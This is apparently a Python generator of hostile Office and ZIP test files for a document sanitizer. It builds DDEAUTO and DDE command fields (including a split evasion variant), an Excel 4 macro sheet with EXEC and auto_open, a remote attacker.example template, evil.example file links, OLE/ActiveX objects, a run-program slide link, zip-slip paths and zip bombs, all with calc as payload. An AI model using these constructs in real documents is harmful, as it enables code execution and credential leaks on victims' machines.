"""Writes hostile OOXML and ZIP variants for the sanitizer tests, at run time.

    python3 variants.py OUT_DIR NAME [FIXTURES_DIR]    writes OUT_DIR/NAME

Some start from the shared fixtures (FIXTURES_DIR, by default ../shared/fixtures/sanitize
beside the repository), which are read, never copied into the repository.
"""
import io
import os
import struct
import sys
import zipfile
import zlib

FIXTURES = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                        "..", "..", "..", "..", "shared", "fixtures", "sanitize")

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PKG_R = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSRT = "http://schemas.microsoft.com/office/2006/relationships/"
OXML = "application/vnd.openxmlformats-officedocument."
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def fixture(name):
    with open(os.path.join(FIXTURES, name), "rb") as f:
        return f.read()


def build_zip(entries):
    """entries: list of (name, bytes); a name ending in / is a directory."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 4, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name.endswith("/") else zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def rels(items):
    out = DECL + '<Relationships xmlns="%s">' % PKG_R
    for rid, typ, target, external in items:
        out += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ, target, ' TargetMode="External"' if external else "")
    return out + "</Relationships>"


def content_types(defaults, overrides):
    out = DECL + '<Types xmlns="%s">' % CT
    out += '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    out += '<Default Extension="xml" ContentType="application/xml"/>'
    for ext, typ in defaults:
        out += '<Default Extension="%s" ContentType="%s"/>' % (ext, typ)
    for part, typ in overrides:
        out += '<Override PartName="%s" ContentType="%s"/>' % (part, typ)
    return out + "</Types>"


def docx(body, doc_rels=(), extra=(), defaults=(), overrides=(), ns=""):
    """A Word document: body XML, document relationships, extra parts."""
    doc = DECL + '<w:document xmlns:w="%s" xmlns:r="%s"%s><w:body>%s</w:body></w:document>' % (W, R, ns, body)
    entries = [
        ("[Content_Types].xml", content_types(defaults, [("/word/document.xml", OXML + "wordprocessingml.document.main+xml")] + list(overrides))),
        ("_rels/.rels", rels([("rId1", RT + "officeDocument", "word/document.xml", False)])),
        ("word/document.xml", doc),
    ]
    if doc_rels:
        entries.append(("word/_rels/document.xml.rels", rels(doc_rels)))
    entries += list(extra)
    return build_zip([(n, d.encode() if isinstance(d, str) else d) for n, d in entries])


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def attached_template():
    settings = DECL + ('<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/>'
                       '<w:updateFields w:val="true"/></w:settings>') % (W, R)
    return docx(para("添付テンプレート付き文書"),
                doc_rels=[("rIdS", RT + "settings", "settings.xml", False)],
                extra=[("word/settings.xml", settings),
                       ("word/_rels/settings.xml.rels",
                        rels([("rId1", RT + "attachedTemplate", "http://attacker.example/t.dotm", True)]))],
                overrides=[("/word/settings.xml", OXML + "wordprocessingml.settings+xml")])


def ole_object():
    obj = ('<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440">'
           '<v:shapetype id="_x0000_t75" coordsize="21600,21600" o:spt="75" path="m@4@5l@4@11@9@11@9@5xe"/>'
           '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt" o:ole="">'
           '<v:imagedata r:id="rId2" o:title=""/></v:shape>'
           '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId1"/>'
           '</w:object></w:r></w:p>')
    return docx(para("埋め込み前") + obj + para("埋め込み後"),
                doc_rels=[("rId1", RT + "oleObject", "embeddings/oleObject1.bin", False),
                          ("rId2", RT + "image", "media/image1.png", False)],
                extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
                       ("word/media/image1.png", fixture("clean.png"))],
                defaults=[("bin", OXML + "oleObject"), ("png", "image/png")],
                ns=' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')


def fld(kind):
    return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def instr(text):
    return '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % text


def run(text):
    return "<w:r><w:t>%s</w:t></w:r>" % text


def ddeauto_complex():
    body = para("前文")
    body += ("<w:p>" + fld("begin") + instr(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') +
             fld("separate") + run("結果テキスト") + fld("end") + "</w:p>")
    # DDE split over two runs, nested in the instruction of a QUOTE field.
    body += ("<w:p>" + fld("begin") + instr(" QUOTE ") + fld("begin") + instr("dd") + instr('e "cmd" "/c calc" ') +
             fld("separate") + run("内側") + fld("end") + fld("separate") + run("入れ子の結果") + fld("end") + "</w:p>")
    body += "<w:p>" + fld("begin") + instr(" PAGE ") + fld("separate") + run("1") + fld("end") + "</w:p>"
    return docx(body)


def links():
    body = ('<w:p><w:hyperlink r:id="rId1">%s</w:hyperlink></w:p>'
            '<w:p><w:hyperlink r:id="rId2">%s</w:hyperlink></w:p>') % (run("市のサイト"), run("共有フォルダ"))
    return docx(body, doc_rels=[("rId1", RT + "hyperlink", "https://www.city.example.lg.jp/", True),
                                ("rId2", RT + "hyperlink", "file://///evil.example/share/x.docx", True)])


def xlsx(workbook_inner, sheets, wb_rels, extra=(), overrides=(), main=OXML + "spreadsheetml.sheet.main+xml"):
    wb = DECL + '<workbook xmlns="%s" xmlns:r="%s">%s</workbook>' % (S, R, workbook_inner)
    entries = [
        ("[Content_Types].xml", content_types([], [("/xl/workbook.xml", main)] + list(overrides))),
        ("_rels/.rels", rels([("rId1", RT + "officeDocument", "xl/workbook.xml", False)])),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels(wb_rels)),
    ]
    for name, data in sheets:
        tail = ""
        if isinstance(data, tuple):
            data, tail = data
        entries.append((name, DECL + '<worksheet xmlns="%s" xmlns:r="%s"><sheetData>%s</sheetData>%s</worksheet>' % (S, R, data, tail)))
    entries += list(extra)
    return build_zip([(n, d.encode() if isinstance(d, str) else d) for n, d in entries])


SHEET_CT = OXML + "spreadsheetml.worksheet+xml"


def dde_link():
    link = DECL + ('<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
                   '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>') % S
    cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>集計値</t></is></c><c r="B1"><f>[1]!\'!A0\'</f><v>42</v></c></row>'
             '<row r="2"><c r="A2"><f>SUM(1,2)</f><v>3</v></c></row>'
             '<row r="3"><c r="A3"><f>cmd|\' /c calc.exe\'!A0</f><v>0</v></c>'
             '<c r="B3" t="str"><f>CONCATENATE("a|b","c")</f><v>a|bc</v></c></row>')
    return xlsx('<sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets>'
                '<externalReferences><externalReference r:id="rId2"/></externalReferences>'
                '<definedNames><definedName name="外部値">[1]!\'!A0\'</definedName>'
                '<definedName name="Keep">集計!$A$1</definedName></definedNames>',
                [("xl/worksheets/sheet1.xml", (cells, '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'))],
                [("rId1", RT + "worksheet", "worksheets/sheet1.xml", False),
                 ("rId2", RT + "externalLink", "externalLinks/externalLink1.xml", False)],
                extra=[("xl/externalLinks/externalLink1.xml", link),
                       ("xl/worksheets/_rels/sheet1.xml.rels",
                        rels([("rId1", RT + "hyperlink", "file://///evil.example/share/x.xlsx", True)]))],
                overrides=[("/xl/worksheets/sheet1.xml", SHEET_CT),
                           ("/xl/externalLinks/externalLink1.xml", OXML + "spreadsheetml.externalLink+xml")])


def macro_names():
    macro = DECL + ('<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                    '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>') % S
    return xlsx('<bookViews><workbookView activeTab="2"/></bookViews>'
                '<sheets><sheet name="Macro1" sheetId="1" state="hidden" r:id="rId1"/>'
                '<sheet name="予算" sheetId="2" r:id="rId2"/><sheet name="データ" sheetId="3" r:id="rId3"/></sheets>'
                '<definedNames>'
                '<definedName name="_xlnm.Print_Area" localSheetId="2">データ!$A$1:$B$2</definedName>'
                '<definedName name="auto_open1">Macro1!$A$1</definedName>'
                '<definedName name="合計">\'Macro1\'!$B$1</definedName>'
                '<definedName name="x" localSheetId="0">$A$1</definedName>'
                '<definedName name="Auto_Close">予算!$A$1</definedName>'
                '<definedName name="Keep">予算!$A$1+XMacro1!$A$1</definedName>'
                '</definedNames>',
                [("xl/worksheets/sheet2.xml", '<row r="1"><c r="A1"><v>1</v></c></row>'),
                 ("xl/worksheets/sheet3.xml", '<row r="1"><c r="A1"><v>2</v></c></row>')],
                [("rId1", MSRT + "xlMacrosheet", "macrosheets/sheet1.xml", False),
                 ("rId2", RT + "worksheet", "worksheets/sheet2.xml", False),
                 ("rId3", RT + "worksheet", "worksheets/sheet3.xml", False)],
                extra=[("xl/macrosheets/sheet1.xml", macro)],
                overrides=[("/xl/worksheets/sheet2.xml", SHEET_CT), ("/xl/worksheets/sheet3.xml", SHEET_CT),
                           ("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")],
                main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def ole_slide():
    """slides-macro.pptm plus an OLE object, an ActiveX control and a run-program action."""
    src = zipfile.ZipFile(io.BytesIO(fixture("slides-macro.pptm")))
    entries = [(i.filename, src.read(i.filename)) for i in src.infolist()]
    frame = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/>'
             '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
             '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
             '<p:oleObj spid="_x0000_s1026" name="Packager Shell Object" r:id="rId5" imgW="1" imgH="1" progId="Package">'
             '<p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
             '<p:sp><p:nvSpPr><p:cNvPr id="5" name="Button"><a:hlinkClick r:id="rId7" action="ppaction://program"/>'
             '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/>'
             '<a:p><a:r><a:t>ボタン</a:t></a:r></a:p></p:txBody></p:sp>')
    controls = '<p:controls><p:control spid="1025" name="CommandButton1" r:id="rId6"/></p:controls>'
    out = []
    for name, data in entries:
        if name == "ppt/slides/slide1.xml":
            data = data.decode().replace("</p:spTree>", frame + "</p:spTree>" + controls).encode()
        elif name == "ppt/slides/_rels/slide1.xml.rels":
            data = data.decode().replace("</Relationships>",
                '<Relationship Id="rId5" Type="%soleObject" Target="../embeddings/oleObject1.bin"/>'
                '<Relationship Id="rId6" Type="%scontrol" Target="../activeX/activeX1.xml"/>'
                '<Relationship Id="rId7" Type="%shyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>'
                '</Relationships>' % (RT, RT, RT)).encode()
        elif name == "[Content_Types].xml":
            data = data.decode().replace("</Types>",
                '<Override PartName="/ppt/embeddings/oleObject1.bin" ContentType="%soleObject"/>'
                '<Override PartName="/ppt/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
                '<Override PartName="/ppt/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>'
                '</Types>' % OXML).encode()
        out.append((name, data))
    out.append(("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504))
    out.append(("ppt/activeX/activeX1.xml", (DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" '
                'r:id="rId1"/>' % R).encode()))
    out.append(("ppt/activeX/_rels/activeX1.xml.rels",
                rels([("rId1", MSRT + "activeXControlBinary", "activeX1.bin", False)]).encode()))
    out.append(("ppt/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60))
    return build_zip(out)


A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"


def word_picture(rid, n):
    return ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3048000" cy="2286000"/>'
            '<wp:docPr id="%d" name="Picture %d"/><a:graphic><a:graphicData uri="%s"><pic:pic>'
            '<pic:nvPicPr><pic:cNvPr id="0" name="Picture %d"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="%s"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>') % (n, n, PIC, n, rid)


def media_docx(pictures):
    """A Word report with pictures: (part name under word/, bytes, extension, content type)."""
    body = para("現地調査報告")
    doc_rels, extra, defaults = [], [], {}
    for i, (name, data, ext, typ) in enumerate(pictures):
        rid = "rId%d" % (i + 2)
        body += word_picture(rid, i + 1)
        doc_rels.append((rid, RT + "image", name, False))
        extra.append(("word/" + name, data))
        defaults[ext] = typ
    body += para("以上")
    return docx(body, doc_rels=doc_rels, extra=extra, defaults=sorted(defaults.items()),
                ns=' xmlns:wp="%s" xmlns:a="%s" xmlns:pic="%s"' % (WP, A, PIC))


def png_with_text(png):
    """A PNG with tEXt and iTXt chunks (a comment and a position) after its IHDR."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    at = 8 + 8 + 13 + 4
    return (png[:at] + chunk(b"tEXt", b"Comment\0secret memo 35.6895,139.6917") +
            chunk(b"iTXt", b"Author\0\0\0\0\0" + "山田 太郎".encode()) + png[at:])


def text_png_xlsx():
    drawing = DECL + ('<xdr:wsDr xmlns:xdr="%s" xmlns:a="%s" xmlns:r="%s"><xdr:oneCellAnchor>'
                      '<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
                      '<xdr:ext cx="609600" cy="609600"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="Picture 1"/><xdr:cNvPicPr/>'
                      '</xdr:nvPicPr><xdr:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>'
                      '<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/>'
                      '</xdr:oneCellAnchor></xdr:wsDr>') % (XDR, A, R)
    return xlsx('<sheets><sheet name="写真" sheetId="1" r:id="rId1"/></sheets>',
                [("xl/worksheets/sheet1.xml", ('<row r="1"><c r="A1" t="inlineStr"><is><t>現場写真</t></is></c></row>',
                                               '<drawing r:id="rId1"/>'))],
                [("rId1", RT + "worksheet", "worksheets/sheet1.xml", False)],
                extra=[("xl/worksheets/_rels/sheet1.xml.rels", rels([("rId1", RT + "drawing", "../drawings/drawing1.xml", False)])),
                       ("xl/drawings/drawing1.xml", drawing),
                       ("xl/drawings/_rels/drawing1.xml.rels", rels([("rId1", RT + "image", "../media/image1.png", False)])),
                       ("xl/media/image1.png", png_with_text(fixture("clean.png")))],
                overrides=[("/xl/worksheets/sheet1.xml", SHEET_CT), ("/xl/drawings/drawing1.xml", OXML + "drawing+xml"),
                           ("/xl/media/image1.png", "image/png")])


def media_pptx(part, data, ext, typ, rel_type):
    """slides-macro.pptm with one media part on its slide (a picture, or audio)."""
    src = zipfile.ZipFile(io.BytesIO(fixture("slides-macro.pptm")))
    pic = ('<p:pic><p:nvPicPr><p:cNvPr id="6" name="Picture 5"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
           '<p:blipFill><a:blip r:embed="rId9"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
           '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
           '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    out = []
    for info in src.infolist():
        name, data_ = info.filename, src.read(info.filename)
        if name == "ppt/slides/slide1.xml":
            data_ = data_.decode().replace("</p:spTree>", pic + "</p:spTree>").encode()
        elif name == "ppt/slides/_rels/slide1.xml.rels":
            data_ = data_.decode().replace("</Relationships>",
                '<Relationship Id="rId9" Type="%s%s" Target="../media/%s"/></Relationships>' % (RT, rel_type, part)).encode()
        elif name == "[Content_Types].xml":
            data_ = data_.decode().replace("</Types>", '<Default Extension="%s" ContentType="%s"/></Types>' % (ext, typ)).encode()
        out.append((name, data_))
    out.append(("ppt/media/" + part, data))
    return build_zip(out)


def emf():
    """A minimal EMF: a header record (signature " EMF" at offset 40) and an EOF record."""
    header = struct.pack("<II", 1, 108) + struct.pack("<4i", 0, 0, 10, 10) + struct.pack("<4i", 0, 0, 100, 100)
    header += b" EMF" + struct.pack("<IIIHH", 0x10000, 108 + 20, 2, 0, 0)
    header += b"\0" * (108 - len(header))
    return header + struct.pack("<IIIII", 14, 20, 0, 16, 20)


def signed():
    src = zipfile.ZipFile(io.BytesIO(fixture("clean.docx")))
    entries = [(i.filename, src.read(i.filename)) for i in src.infolist()]
    out = []
    for name, data in entries:
        if name == "_rels/.rels":
            data = data.decode().replace("</Relationships>",
                '<Relationship Id="rIdSig" Type="http://schemas.openxmlformats.org/package/2006/relationships/'
                'digital-signature/origin" Target="_xmlsignatures/origin.sigs"/></Relationships>').encode()
        elif name == "[Content_Types].xml":
            data = data.decode().replace("</Types>",
                '<Default Extension="sigs" ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/>'
                '<Override PartName="/_xmlsignatures/sig1.xml" '
                'ContentType="application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"/></Types>').encode()
        out.append((name, data))
    out.append(("_xmlsignatures/origin.sigs", b""))
    out.append(("_xmlsignatures/_rels/origin.sigs.rels", rels([(
        "rId1", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature",
        "sig1.xml", False)]).encode()))
    out.append(("_xmlsignatures/sig1.xml",
                (DECL + '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#" Id="idPackageSignature"/>').encode()))
    return build_zip(out)


class _Unseekable(io.RawIOBase):
    def __init__(self):
        self.buf = io.BytesIO()

    def writable(self):
        return True

    def write(self, b):
        return self.buf.write(b)


def streamed():
    """Written to a pipe-like stream: sizes in data descriptors after each entry."""
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("報告.txt", "w") as f:
            f.write("ストリームで書いた報告\n".encode())
    return out.buf.getvalue()


def with_entries(base, names):
    src = zipfile.ZipFile(io.BytesIO(fixture(base)))
    return build_zip([(i.filename, src.read(i.filename)) for i in src.infolist()] + [(n, b"x") for n in names])


def nested(levels):
    data = build_zip([("inner.txt", "いちばん内側\n".encode())])
    for i in range(levels):
        data = build_zip([("level%d.zip" % (levels - 1 - i), data), ("note%d.txt" % i, b"note\n")])
    return data


def patch_sizes(data, declared):
    """Rewrites the uncompressed size of every entry (local and central headers)."""
    b = bytearray(data)
    i = b.find(b"PK\x03\x04")
    while i >= 0:
        struct.pack_into("<I", b, i + 22, declared)
        i = b.find(b"PK\x03\x04", i + 4)
    i = b.find(b"PK\x01\x02")
    while i >= 0:
        struct.pack_into("<I", b, i + 24, declared)
        i = b.find(b"PK\x01\x02", i + 4)
    return bytes(b)


def clear_utf8_flag(data):
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            flags = struct.unpack_from("<H", b, i + off)[0]
            struct.pack_into("<H", b, i + off, flags & ~0x800)
            i = b.find(sig, i + 4)
    return bytes(b)


VARIANTS = {
    "attached-template.docx": attached_template,
    "ole-object.docx": ole_object,
    "ddeauto-complex.docx": ddeauto_complex,
    "links.docx": links,
    "dde-link.xlsx": dde_link,
    "macro-names.xlsm": macro_names,
    "ole-slide.pptm": ole_slide,
    "signed.docx": signed,
    "deep.docx": lambda: docx("<w:p>" + "<w:sdt><w:sdtContent>" * 5000 + "</w:sdtContent></w:sdt>" * 5000 + "</w:p>"),
    "streamed.zip": streamed,
    "zip-slip.docx": lambda: with_entries("clean.docx", ["../../evil"]),
    "many-entries.docx": lambda: with_entries("clean.docx", ["p/%05d" % i for i in range(20000)]),
    "many-entries.zip": lambda: build_zip([("f/%05d.txt" % i, b"x") for i in range(20000)]),
    "nested-5.zip": lambda: nested(5),
    "nested-2.zip": lambda: nested(2),
    "slip-parent.zip": lambda: build_zip([("ok.txt", b"ok\n"), ("../x", b"x")]),
    "slip-inner-parent.zip": lambda: build_zip([("a/../../x", b"x")]),
    "slip-absolute.zip": lambda: build_zip([("/etc/x", b"x")]),
    "slip-drive.zip": lambda: build_zip([("C:\\x", b"x")]),
    "slip-backslash.zip": lambda: build_zip([("dir\\..\\x", b"x")]),
    "lying-size.zip": lambda: patch_sizes(build_zip([("zeros.txt", b"0" * (8 << 20))]), 1000),
    "docm-inside.zip": lambda: build_zip([("資料/", b""), ("資料/macro.docm", fixture("macro.docm")),
                                          ("資料/メモ.txt", "会議メモ\n".encode())]),
    "exe-inside.zip": lambda: build_zip([("readme.txt", b"read me\n"), ("写真/invoice.jpg", fixture("invoice.jpg"))]),
    "utf8-noflag.zip": lambda: clear_utf8_flag(build_zip([("報告書.txt", "報告\n".encode())])),
    "dirs.zip": lambda: build_zip([("空/", b""), ("空/.keep", b""), ("a.txt", b"a\n")]),
    "reordered.docx": lambda: build_zip(list(reversed(
        [(i.filename, zipfile.ZipFile(io.BytesIO(fixture("macro.docm"))).read(i.filename))
         for i in zipfile.ZipFile(io.BytesIO(fixture("macro.docm"))).infolist()]))),
    "photo-media.docx": lambda: media_docx([("media/image1.jpeg", fixture("photo.jpg"), "jpeg", "image/jpeg")]),
    "emf-media.docx": lambda: media_docx([("media/image1.emf", emf(), "emf", "image/x-emf"),
                                          ("media/image2.png", fixture("clean.png"), "png", "image/png")]),
    "heic-media.docx": lambda: media_docx([("media/image1.heic", fixture("photo-gps.heic"), "heic", "image/heic")]),
    "png-as-jpeg.docx": lambda: media_docx([("media/image1.jpeg", fixture("clean.png"), "jpeg", "image/jpeg")]),
    "text-png.xlsx": text_png_xlsx,
    "flood-media.pptx": lambda: media_pptx("image1.png", fixture("pixel-flood.png"), "png", "image/png", "image"),
    "audio-media.pptx": lambda: media_pptx("media1.mp3", b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\x00" * 64,
                                           "mp3", "audio/mpeg", "audio"),
    "two-levels-7-entries.zip": lambda: build_zip(
        [("a.txt", b"a\n"), ("b.txt", b"b\n"), ("c.txt", b"c\n"),
         ("inner.zip", build_zip([("d.txt", b"d\n"), ("e.txt", b"e\n"), ("f.txt", b"f\n")]))]),
}


def main():
    global FIXTURES
    out_dir, name = sys.argv[1], sys.argv[2]
    if len(sys.argv) > 3:
        FIXTURES = sys.argv[3]
    with open(os.path.join(out_dir, name), "wb") as f:
        f.write(VARIANTS[name]())


if __name__ == "__main__":
    main()
